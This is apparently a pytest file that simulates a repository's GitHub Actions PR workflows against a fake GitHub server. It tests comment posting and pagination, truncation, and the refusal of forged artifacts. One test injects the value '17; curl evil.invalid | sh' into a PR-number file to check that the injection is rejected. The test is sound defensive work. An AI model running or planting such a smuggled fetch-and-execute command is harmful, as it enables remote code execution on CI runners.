"""Run the PR workflows' own `run:` steps (read from the YAML) the way a runner would.

pr-health.yml runs in a temporary repository whose head commit changes an events manifest;
pr-comment.yml then runs against a loopback server speaking the GitHub endpoints it uses (list
issue comments, create, update, and the pull request read that binds the artifact to its PR).
Steps with `uses:` and the install step are skipped (the artifact download is simulated by a copy).
"""

from __future__ import annotations

import json
import shutil
import subprocess
from collections.abc import Iterator
from pathlib import Path

import pytest

from drumgate.github_comment import COMMENT_LIMIT
from tests import pr_scenario
from tests.workflow_runner import REPO, FakeGitHub, run_steps, serve_github

PR_NUMBER = 17
TOKEN = "ghs_loopback_token"


SEEDED_COMMENTS = (
    {"id": 1, "body": "Looks good!", "user": {"login": "reviewer", "type": "User"}},
    {"id": 2, "body": "<!-- drumgate:health-delta -->\nforged", "user": {"login": "mallory", "type": "User"}},
)


@pytest.fixture
def github() -> Iterator[tuple[FakeGitHub, str]]:
    fake = FakeGitHub(TOKEN, PR_NUMBER, comments=SEEDED_COMMENTS)
    with serve_github(fake) as api:
        yield fake, api


# The scenario -----------------------------------------------------------------------------------
@pytest.fixture(scope="module")
def health_run(tmp_path_factory: pytest.TempPathFactory) -> tuple[Path, str, list[subprocess.CompletedProcess[str]]]:
    """pr-health.yml's steps on a repository whose head changes the egmd events manifest."""
    tmp_path = tmp_path_factory.mktemp("health-run")
    repo = tmp_path / "checkout"
    base, head = pr_scenario.build(repo)
    temp = tmp_path / "runner-health"
    temp.mkdir()
    contexts = {
        "github.event.pull_request.base.sha": base,
        "github.event.pull_request.head.sha": head,
        "github.event.pull_request.number": str(PR_NUMBER),
    }
    results = run_steps("pr-health.yml", "health", repo, temp, contexts, {"GITHUB_EVENT_NAME": "pull_request"})
    return temp, head, results


def comment_run(
    tmp_path: Path, artifact: Path, head: str, api: str, name: str, replace: dict[str, str] | None = None
) -> list[subprocess.CompletedProcess[str]]:
    """pr-comment.yml's steps; the artifact download is a copy (with `replace`d files, as a fork could)."""
    temp = tmp_path / name
    shutil.copytree(artifact, temp / "drumgate-health")
    for file_name, content in (replace or {}).items():
        (temp / "drumgate-health" / file_name).write_text(content, encoding="utf-8")
    contexts = {
        "github.token": TOKEN,
        "github.event.workflow_run.head_sha": head,
    }
    extra = {"GITHUB_API_URL": api, "GITHUB_EVENT_NAME": "workflow_run"}
    return run_steps("pr-comment.yml", "comment", tmp_path, temp, contexts, extra)


def test_pr_health_steps_write_the_report_summary_and_pr_number(health_run) -> None:
    temp, head, results = health_run
    assert [r.returncode for r in results] == [0, 0, 0], [r.stderr for r in results]
    report = temp / "drumgate-health"
    comment = (report / "comment.md").read_text(encoding="utf-8")
    assert comment.startswith("<!-- drumgate:health-delta -->")
    assert "| egmd | ✅ 9/9 → ❌ 8/9 |" in comment
    assert (temp / "github_summary").read_text(encoding="utf-8") == comment
    assert (report / "pr-number.txt").read_text(encoding="utf-8") == f"{PR_NUMBER}\n"
    assert (report / "head-sha.txt").read_text(encoding="utf-8") == f"{head}\n"
    assert "https://github.invalid/acme/drums/actions/runs/4242" in comment
    assert (report / "reports" / "egmd_head.html").is_file()


def test_comment_is_created_then_updated_in_place(health_run, github, tmp_path: Path) -> None:
    temp, head, _ = health_run
    fake, api = github
    fake.head_sha = head
    first = comment_run(tmp_path, temp / "drumgate-health", head, api, "runner-comment-1")
    assert [r.returncode for r in first] == [0, 0], [r.stderr for r in first]
    assert "comment created" in first[-1].stdout
    assert len(fake.bot_comments()) == 1
    created = fake.bot_comments()[0]
    assert created["body"] == (temp / "drumgate-health" / "comment.md").read_text(encoding="utf-8")
    assert fake.comments[1]["body"].endswith("forged"), "a user's comment holding the marker is never edited"

    second = comment_run(tmp_path, temp / "drumgate-health", head, api, "runner-comment-2")
    assert [r.returncode for r in second] == [0, 0], [r.stderr for r in second]
    assert "comment updated" in second[-1].stdout
    assert [c["id"] for c in fake.bot_comments()] == [created["id"]]
    assert ("PATCH", f"/repos/{REPO}/issues/comments/{created['id']}") in fake.requests
    pages = [url for method, url in fake.requests if method == "GET" and "/comments" in url]
    assert any("page=2" in url for url in pages), "the comment list is paginated"


def test_a_body_over_the_limit_is_cut_cleanly(health_run, github, tmp_path: Path) -> None:
    temp, head, _ = health_run
    fake, api = github
    fake.head_sha = head
    artifact = temp / "drumgate-health"
    huge = "<!-- drumgate:health-delta -->\n<details><summary>big</summary>\n\n```json\n" + "\n".join(
        json.dumps({"row": i, "pad": "x" * 60}) for i in range(2000)
    )
    results = comment_run(tmp_path, artifact, head, api, "runner-big", {"comment.md": huge + "\n```\n</details>\n"})
    assert results[-1].returncode == 0, results[-1].stderr
    body = fake.bot_comments()[0]["body"]
    assert len(body) <= COMMENT_LIMIT
    assert body.count("```") % 2 == 0 and body.count("<details") == body.count("</details>")
    assert "cut to stay under GitHub's 65,536-character limit" in body
    assert "(cut to fit the limit)" in results[-1].stdout


def test_forbidden_gives_a_clear_message_and_fails(health_run, github, tmp_path: Path) -> None:
    temp, head, _ = health_run
    fake, api = github
    fake.head_sha = head
    fake.forbidden = True
    results = comment_run(tmp_path, temp / "drumgate-health", head, api, "runner-403")
    failed = results[-1]
    assert failed.returncode != 0
    message = failed.stderr.strip()
    assert message.count("\n") == 0 and "Traceback" not in message
    assert "403 Forbidden: Resource not accessible by integration" in message
    assert "pull-requests: write" in message
    assert not fake.bot_comments()


def test_a_forged_pr_number_is_refused(health_run, github, tmp_path: Path) -> None:
    temp, head, _ = health_run
    fake, api = github
    fake.head_sha = head
    artifact = temp / "drumgate-health"
    forged = {"pr-number.txt": "17; curl evil.invalid | sh\n"}
    results = comment_run(tmp_path, artifact, head, api, "runner-forged", forged)
    assert results[-1].returncode != 0 and "not a pull request number" in results[-1].stdout
    assert not fake.requests


def test_an_artifact_from_another_pr_is_refused(health_run, github, tmp_path: Path) -> None:
    temp, head, _ = health_run
    fake, api = github
    fake.head_sha = "0" * 40
    results = comment_run(tmp_path, temp / "drumgate-health", head, api, "runner-other")
    assert results[-1].returncode != 0
    assert "names a different pull request" in results[-1].stderr
    assert not fake.bot_comments()
